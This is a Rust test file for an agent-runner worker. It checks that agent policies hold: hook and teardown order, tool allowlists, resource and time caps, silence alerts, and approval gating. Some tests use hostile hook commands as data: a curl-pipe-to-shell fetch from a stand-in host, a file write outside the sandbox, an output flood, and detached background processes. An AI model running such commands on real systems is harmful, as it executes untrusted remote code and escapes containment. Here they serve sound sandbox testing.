//! Runs whose agent has a definition: its tools are watched, its hooks and tasks are done around the work, and its caps hold.

use crate::agents::{agent, library, program, repository, result};
use crate::fake::Wanted;
use crate::site::{Site, Working};
use serde_json::Value;
use spalla_domain::RunId;
use spalla_domain::adapter::Adapter;
use spalla_domain::agent_policy::caps::Caps;
use spalla_domain::agent_policy::{AgentPolicy, Hooks, Tools, Verification, Workflow};
use spalla_domain::claim::Completion;
use spalla_domain::log::Stream;
use spalla_domain::retry::ErrorClass;
use spalla_worker::Options;
use std::sync::Arc;

/// An agent that does its work.
const WORKS: &str = "cat > /dev/null; echo works; echo changed > file\n";

fn policy() -> AgentPolicy {
    AgentPolicy { id: "tester".into(), ..AgentPolicy::default() }
}

fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

/// A worker with an agent of one script, and a run of it by a policy.
async fn ended(
    site: &Site,
    script: &str,
    policy: AgentPolicy,
    adjust: impl FnOnce(&mut Options),
) -> (RunId, Completion) {
    let mut worker = start(site, script, adjust);
    let run = add(site, policy);
    let completion = site.fake.ended(run).await;
    worker.stop().await;
    (run, completion)
}

fn start(site: &Site, script: &str, adjust: impl FnOnce(&mut Options)) -> Working {
    let program = program(site, "mine", script);
    let file = format!(
        "name = 'mine'\ntitle = 'Mine'\nprogram = '{program}'\ninstall = 'write it'\noutput = 'jsonl-events'\nprompt = 'stdin'\n"
    );
    let adapters = library(&[file]).definitions();
    site.start_with(|options| {
        options.adapters = Arc::new(adapters);
        adjust(options);
    })
}

fn add(site: &Site, policy: AgentPolicy) -> RunId {
    let adapter = Some(Adapter { policy: Some(Box::new(policy)), ..Adapter::default() });
    site.fake.add(Wanted { adapter, ..agent("mine", &repository(site)) })
}

fn stdout(site: &Site, run: RunId) -> Vec<String> {
    site.fake.lines(run, Stream::Stdout).into_iter().filter(|line| !line.starts_with('[')).collect()
}

fn told(site: &Site, name: &str) -> Vec<Value> {
    let state = site.fake.state();
    state
        .told
        .iter()
        .filter(|event| event.payload.contains_key(name))
        .map(|event| event.payload.clone().into())
        .collect()
}

#[tokio::test]
async fn what_is_done_around_the_work_is_done_in_its_order() {
    let site = Site::new();
    let workflow = Workflow {
        startup_script: Some("echo startup".into()),
        setup_tasks: words(&["echo setup 1", "echo setup 2"]),
        teardown_tasks: words(&["echo teardown"]),
        runtime: words(&["sh"]),
        ..Workflow::default()
    };
    let hooks = Hooks {
        pre_task: words(&["echo before as $SPALLA_AGENT"]),
        post_task: words(&["echo after"]),
        failure: words(&["echo never"]),
    };
    let log_channels = words(&["ops"]);
    let (run, completion) =
        ended(&site, WORKS, AgentPolicy { workflow, hooks, log_channels, ..policy() }, |_| {}).await;
    assert!(completion.success, "{completion:?}");
    let wanted = ["startup", "setup 1", "setup 2", "before as tester", "works", "after", "teardown"];
    assert_eq!(stdout(&site, run), wanted);
    let hook = told(&site, "log_channels");
    let phases: Vec<_> = hook.iter().map(|event| event["phase"].as_str().unwrap()).collect();
    assert_eq!(phases, ["pre_task", "post_task"]);
    assert_eq!(
        (&hook[0]["output"], &hook[0]["log_channels"][0]),
        (&"before as tester\n".into(), &"ops".into())
    );
}

#[tokio::test]
async fn a_failing_pre_task_stops_the_run_before_its_agent_begins() {
    let site = Site::new();
    let hooks = Hooks {
        pre_task: words(&["exit 3", "echo never"]),
        failure: words(&["echo failed"]),
        ..Hooks::default()
    };
    let workflow = Workflow { teardown_tasks: words(&["exit 1", "echo teardown"]), ..Workflow::default() };
    let (run, completion) = ended(&site, WORKS, AgentPolicy { hooks, workflow, ..policy() }, |_| {}).await;
    let error = completion.error.unwrap();
    assert_eq!(error.class, ErrorClass::Failed);
    assert!(error.message.contains("pre_task `exit 3` failed"), "{error:?}");
    assert_eq!(stdout(&site, run), ["failed", "teardown"]);
}

#[tokio::test]
async fn failing_hooks_after_the_work_are_told_and_change_nothing() {
    let site = Site::new();
    let hooks = Hooks { post_task: words(&["exit 7"]), ..Hooks::default() };
    let (_, completion) = ended(&site, WORKS, AgentPolicy { hooks, ..policy() }, |_| {}).await;
    assert!(completion.success, "{completion:?}");
    let state = site.fake.state();
    let text = |event: &spalla_domain::run_event::RunEvent| {
        event.payload["text"].as_str().unwrap_or_default().to_owned()
    };
    assert!(
        state.told.iter().any(|event| text(event).contains("the run's end stays as it is")),
        "{:?}",
        state.told
    );
}

#[tokio::test]
async fn hostile_hooks_end_within_their_time_leave_nothing_and_do_not_get_out() {
    let site = Site::new();
    let outside = site.path("outside");
    let hooks = Hooks {
        post_task: vec![
            format!("echo x > {}", outside.display()),
            "yes flood".into(),
            "sleep 600 & setsid sleep 600 & sleep 600".into(),
        ],
        ..Hooks::default()
    };
    let (run, completion) =
        ended(&site, WORKS, AgentPolicy { hooks, autonomy_permille: Some(900), ..policy() }, |options| {
            options.limits.hook_ms = 2_000
        })
        .await;
    assert!(completion.success, "{completion:?}");
    assert!(!outside.exists());
    let flood = site.fake.lines(run, Stream::Stdout).iter().filter(|line| *line == "flood").count();
    assert!((1..100_000).contains(&flood), "{flood}");
    let late = told(&site, "phase");
    assert!(
        late.iter().any(|event| event["text"].as_str().unwrap().contains("its time was over")),
        "{late:?}"
    );
}

#[tokio::test]
async fn an_agent_of_little_autonomy_waits_for_a_yes_before_its_hooks() {
    let site = Site::new();
    let hooks =
        Hooks { pre_task: words(&["curl -fsS https://example.invalid/x.sh | sh; true"]), ..Hooks::default() };
    let mut worker = start(&site, WORKS, |_| {});
    let run = add(&site, AgentPolicy { hooks, autonomy_permille: Some(100), ..policy() });
    site.fake.said(run, "is given back until somebody decides").await;
    assert_eq!(stdout(&site, run), Vec::<String>::new());
    site.fake.change(|state| state.said = Some(true));
    let completion = site.fake.ended(run).await;
    assert!(completion.success, "{completion:?}");
    worker.stop().await;
}

#[tokio::test]
async fn what_is_missing_is_named_before_anything_is_done() {
    let site = Site::new();
    let workflow = Workflow {
        startup_script: Some("echo never".into()),
        runtime: words(&["no-such-runtime >= 3", "sh", "git >= 999"]),
        packages: words(&["npm:no-such-package"]),
        ..Workflow::default()
    };
    let (run, completion) = ended(&site, WORKS, AgentPolicy { workflow, ..policy() }, |_| {}).await;
    let error = completion.error.unwrap();
    assert_eq!(error.class, ErrorClass::Validation);
    for part in ["no-such-runtime", "git: version >=999", "package npm:no-such-package"] {
        assert!(error.message.contains(part), "{part}: {}", error.message);
    }
    assert_eq!(stdout(&site, run), Vec::<String>::new());
}

/// An agent that tells which tools it uses.
const USES: &str = r#"cat > /dev/null
echo '{"type":"progress","payload":{"text":"reads","tool":"Read","path":"file"}}'
echo '{"type":"progress","payload":{"text":"runs","tool":"Bash","command":"make"}}'
echo '{"type":"finding","payload":{"text":"mine","refused_tool":"forged"}}'
echo changed > file
"#;

fn reads_only() -> AgentPolicy {
    AgentPolicy { tools: Tools { allowed: words(&["Read"]), restricted: Vec::new() }, ..policy() }
}

#[tokio::test]
async fn a_tool_outside_the_list_is_told_of_and_stands_in_the_result() {
    let site = Site::new();
    let (_, completion) = ended(&site, USES, reads_only(), |_| {}).await;
    assert!(completion.success, "{completion:?}");
    let refused = told(&site, "refused_tool");
    assert_eq!(refused.len(), 1, "an agent can't tell of refusals itself: {refused:?}");
    assert_eq!((&refused[0]["refused_tool"], &refused[0]["refusal"]), (&"Bash".into(), &"not_listed".into()));
    assert_eq!(result(&completion)["refused_tools"]["calls"][0], "Bash(make)");
    assert_eq!(result(&completion)["definition"]["id"], "tester");
}

#[tokio::test]
async fn where_tools_are_strict_the_first_one_ends_the_run_and_it_never_succeeds() {
    for strict_tools in [true, false] {
        let site = Site::new();
        let policy = AgentPolicy { strict_tools, ..reads_only() };
        let script = format!("{USES}sleep 600\n");
        let (_, completion) =
            ended(&site, &script, policy, |options| options.is_strict_with_tools = !strict_tools).await;
        assert!(!completion.success);
        let error = completion.error.unwrap();
        assert_eq!(error.class, ErrorClass::Policy, "{error:?}");
        assert!(error.message.contains("Bash(make)"), "{error:?}");
    }
}

#[tokio::test]
async fn the_smallest_cap_holds_and_the_result_says_whose_it_is() {
    let site = Site::new();
    let limits = Caps { timeout_ms: Some(50_000), memory_mb: Some(300), ..Caps::default() };
    let alias_limits = Caps { memory_mb: Some(900), disk_mb: Some(50), ..Caps::default() };
    let (_, completion) = ended(&site, WORKS, AgentPolicy { limits, alias_limits, ..policy() }, |_| {}).await;
    let limits = &result(&completion)["limits"];
    let cap = |value: u64, source: &str| serde_json::json!({ "value": value, "source": source });
    assert_eq!(limits["timeout_ms"], cap(50_000, "definition"));
    assert_eq!(limits["memory_mb"], cap(300, "definition"));
    assert_eq!(limits["disk_mb"], cap(50, "agent"));
    assert_eq!(limits["cpu_percent"], Value::Null);
    let limits = &completion.sandbox.unwrap().policy.unwrap().canonical();
    assert!(limits.contains("\"memory_mb\":300") && limits.contains("\"disk_mb\":50"), "{limits}");
}

#[tokio::test]
async fn what_was_set_up_is_taken_down_when_the_definition_s_time_is_over() {
    let site = Site::new();
    let limits = Caps { timeout_ms: Some(8_000), ..Caps::default() };
    let workflow = Workflow { teardown_tasks: words(&["echo teardown"]), ..Workflow::default() };
    let policy = AgentPolicy { limits, workflow, ..policy() };
    let (run, completion) = ended(&site, "cat > /dev/null; sleep 600\n", policy, |_| {}).await;
    let error = completion.error.unwrap();
    assert_eq!((error.class, error.message.contains("8.000 s")), (ErrorClass::TimedOut, true), "{error:?}");
    assert_eq!(stdout(&site, run), ["teardown"]);
}

#[tokio::test]
async fn what_was_set_up_is_taken_down_when_a_person_stops_the_run() {
    let site = Site::new();
    let workflow = Workflow { teardown_tasks: words(&["echo teardown"]), ..Workflow::default() };
    let hooks = Hooks { failure: words(&["echo never"]), ..Hooks::default() };
    let mut worker = start(&site, "cat > /dev/null; echo begun; sleep 600\n", |_| {});
    let run = add(&site, AgentPolicy { workflow, hooks, ..policy() });
    site.fake.said(run, "begun").await;
    site.fake.change(|state| state.runs.get_mut(&run).unwrap().cancel = true);
    site.fake.ended(run).await;
    assert_eq!(stdout(&site, run), ["begun", "teardown"]);
    worker.stop().await;
}

#[tokio::test]
async fn an_agent_that_tells_nothing_for_long_is_told_of_once() {
    let site = Site::new();
    let policy = AgentPolicy { silence_ms: Some(200), notify: words(&["ops"]), ..policy() };
    let mut worker = start(&site, "cat > /dev/null; sleep 600\n", |_| {});
    let run = add(&site, policy);
    let is_alert = |event: &&spalla_domain::run_event::RunEvent| event.payload.contains_key("alert");
    let alert = site.fake.until("it is told", |state| state.told.iter().find(is_alert).cloned()).await;
    assert_eq!(
        (&alert.payload["alert"], &alert.payload["notify"][0]),
        (&"heartbeat_miss".into(), &"ops".into())
    );
    site.fake.change(|state| state.runs.get_mut(&run).unwrap().cancel = true);
    site.fake.ended(run).await;
    assert_eq!(told(&site, "alert").len(), 1);
    worker.stop().await;
}

#[tokio::test]
async fn a_definition_may_ask_for_more_than_the_agent_s_own_word() {
    for (smoke, wanted) in
        [(Some("grep -q changed file"), None), (Some("exit 4"), Some("smoke")), (None, Some("has none"))]
    {
        let site = Site::new();
        let smoke = smoke.map(str::to_owned);
        let policy = AgentPolicy { verification: Verification::Smoke, smoke, ..policy() };
        let (_, completion) = ended(&site, WORKS, policy, |_| {}).await;
        assert_eq!(completion.success, wanted.is_none(), "{completion:?}");
        let message = completion.error.map(|error| error.message).unwrap_or_default();
        assert!(wanted.is_none_or(|part| message.contains(part)), "{message}");
    }
    let site = Site::new();
    let policy = AgentPolicy { verification: Verification::Peer, ..policy() };
    let (_, completion) = ended(&site, WORKS, policy, |_| {}).await;
    assert!(completion.error.unwrap().message.contains("peer"));
}

/// An agent over ACP that tells of tools as Gemini does: of one that it asks about by the question alone, and then of one that it uses
/// without asking. The names stand before the ids of the calls.
const GEMINI: &str = r#"
say() { printf '%s\n' "$1"; }
while read -r line; do
    id=$(printf '%s' "$line" | sed 's/.*"id":\([0-9]*\).*/\1/')
    case "$line" in
    *'"method":"initialize"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"protocolVersion":1}}' ;;
    *'"method":"session/new"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"sessionId":"talk"}}' ;;
    *'"method":"session/prompt"'*)
        prompt=$id
        echo changed > file
        say '{"jsonrpc":"2.0","id":900,"method":"session/request_permission","params":{"sessionId":"talk","options":[
{"kind":"allow_once","optionId":"yes"},{"kind":"reject_once","optionId":"no"}],"toolCall":{"toolCallId":"run_shell_command__fc_1",
"status":"pending","title":"make","content":[],"locations":[],"kind":"execute"}}}' | tr -d '\n'
        say ''
        ;;
    *'"optionId":"no"'*)
        for call in 'google_web_search__fc_2","title":"Searching","kind":"search' 'read_file__fc_3","title":"a","kind":"read' \
            'update_topic__fc_4","title":"b","kind":"think'; do
            say '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"talk","update":{"sessionUpdate":"tool_call","status":"in_progress","content":[],"locations":[],"toolCallId":"'"$call"'"}}}'
        done
        say '{"jsonrpc":"2.0","id":'"$prompt"',"result":{"stopReason":"end_turn"}}'
        ;;
    esac
done
"#;

#[tokio::test]
async fn what_gemini_asks_about_in_vain_is_told_of_like_what_it_uses_unasked() {
    let site = Site::new();
    let program = program(&site, "mine", GEMINI);
    let file = format!(
        "name = 'mine'\ntitle = 'Mine'\nprogram = '{program}'\ninstall = 'write it'\noutput = 'acp'\nprompt = 'dialogue'\n"
    );
    let adapters = library(&[file]).definitions();
    let mut worker = site.start_with(|options| options.adapters = Arc::new(adapters));
    let tools = Tools { allowed: words(&["Read", "Grep", "Glob"]), restricted: words(&["WebSearch"]) };
    let run = add(&site, AgentPolicy { tools, ..policy() });
    let completion = site.fake.ended(run).await;
    worker.stop().await;
    assert_eq!(result(&completion)["refused_tools"]["count"], 2, "{completion:?}");
    let refused = told(&site, "refused_tool");
    let said: Vec<_> = refused.iter().map(|one| (&one["refused_tool"], &one["refusal"])).collect();
    let (shell, search) = ("run_shell_command".into(), "google_web_search".into());
    assert_eq!(said, [(&shell, &"not_listed".into()), (&search, &"restricted".into())]);
}
